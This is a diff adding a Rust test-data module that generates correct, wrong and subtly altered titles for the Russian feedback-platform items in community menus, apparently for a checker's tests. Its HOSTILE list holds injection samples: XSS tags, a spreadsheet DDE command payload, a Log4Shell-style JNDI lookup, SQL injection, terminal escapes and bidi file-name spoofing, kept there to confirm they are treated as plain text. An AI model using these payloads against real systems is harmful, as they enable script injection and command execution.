@@ -1,0 +1,86 @@
+//! Titles, accepted, wrong and nearly right, and the other items of a menu, some of them hostile. Knows no layout.
+
+use std::borrow::Cow;
+
+use rand::Rng;
+use rand::seq::IndexedRandom;
+use rand_chacha::ChaCha8Rng;
+
+use crate::region::{Form, ItemKind};
+
+use super::defect::Near;
+
+pub(super) const SOLVE: &str = "Решаем вместе";
+pub(super) const OPINION: &str = "Высказать мнение";
+
+const WRONG_FOR_MESSAGES: [&str; 5] = ["Сообщить о проблеме", "Госуслуги", "Решаем", "Написать нам", "Обращения"];
+const WRONG_FOR_POLLS: [&str; 5] = ["Сообщить о проблеме", "Госуслуги", "Решаем", "Опросы", "Голосование"];
+
+/// What pages hold beside the two forms, none of it on the feedback platform.
+const OTHER_ITEMS: [(&str, &str, ItemKind); 8] = [
+    ("Контакты", "https://vk.com/topic-1_2", ItemKind::Discussion),
+    ("Фотоальбомы", "https://vk.com/albums-1", ItemKind::PhotoAlbum),
+    ("Вакансии", "https://vk.com/@official-vacancies", ItemKind::Article),
+    ("Официальный сайт", "https://admin.example.ru/", ItemKind::Other),
+    ("Афиша", "https://afisha.example.ru/list?utm_source=vk", ItemKind::Other),
+    ("Мини-приложение", "https://vk.com/app8181405?ref=group_menu", ItemKind::App),
+    ("Документы", "https://vk.com/docs-1", ItemKind::DocumentList),
+    ("Telegram", "https://t.me/official_example", ItemKind::Other),
+];
+
+/// Texts that must not get through to a terminal, a page or a spreadsheet as anything but text.
+pub(super) const HOSTILE: [&str; 9] = [
+    "\u{1b}[31mКрасное\u{1b}[0m\u{1b}[2J",
+    "<script>alert(1)</script><img src=x onerror=alert(2)>",
+    "=HYPERLINK(\"http://example.com\";\"Нажмите\")",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "Нулевой\u{0}знак\u{7}и\u{8}табуляция\tстрока\r\nдругая",
+    "\u{202e}етсемв мешаеР\u{202c}",
+    "\u{202e}\u{2066}gpj.exe\u{2069}",
+    "{{7*7}} ${jndi:ldap://example.com/a} %s%n \\u0000 ' OR 1=1 --",
+    "𝕽𝖊𝖘𝖍𝖆𝖊𝖒 👩‍👩‍👧‍👦 \u{301}\u{301}\u{301}\u{301} ﷽",
+];
+
+/// An accepted title of the form; now and then with white space that is no defect.
+pub(super) fn accepted(form: Form, rng: &mut ChaCha8Rng) -> Cow<'static, str> {
+    let plain = match form {
+        Form::Polls if rng.random_bool(0.5) => OPINION,
+        _ => SOLVE,
+    };
+    match rng.random_range(0..60) {
+        0 => Cow::Owned(format!("  {}", plain.replace(' ', "  "))),
+        1 => Cow::Owned(format!("{} ", plain.replace(' ', "\u{a0}"))),
+        _ => Cow::Borrowed(plain),
+    }
+}
+
+/// A title that is none of the accepted ones and near none of them.
+pub(super) fn wrong(form: Form, rng: &mut ChaCha8Rng) -> Cow<'static, str> {
+    let list = match form {
+        Form::Messages => &WRONG_FOR_MESSAGES,
+        Form::Polls => &WRONG_FOR_POLLS,
+    };
+    Cow::Borrowed(list.choose(rng).copied().unwrap_or("Госуслуги"))
+}
+
+/// A title that differs from an accepted one in one way that a reader hardly sees.
+pub(super) fn near(form: Form, how: Near, rng: &mut ChaCha8Rng) -> String {
+    let plain = match form {
+        Form::Polls if how != Near::Yo && rng.random_bool(0.5) => OPINION,
+        _ => SOLVE,
+    };
+    match how {
+        Near::Case if rng.random_bool(0.5) => plain.to_uppercase(),
+        Near::Case => plain.to_lowercase(),
+        Near::LookAlike => plain.replace('а', "a").replace('е', "e").replace('Р', "P").replace('В', "B"),
+        Near::Yo => plain.replacen("Решае", "Решаё", 1),
+        Near::Quotes if rng.random_bool(0.5) => format!("«{plain}»"),
+        Near::Quotes => format!("\"{plain}\""),
+        Near::Punctuation => format!("{plain}{}", ["!", ".", "…", ":"].choose(rng).copied().unwrap_or("!")),
+    }
+}
+
+/// The place of an other item in [`other_item`]'s list, different for each of the first eight calls of one page.
+pub(super) fn other_item(first: usize, number: usize) -> (&'static str, &'static str, ItemKind) {
+    OTHER_ITEMS[(first + number) % OTHER_ITEMS.len()]
+}
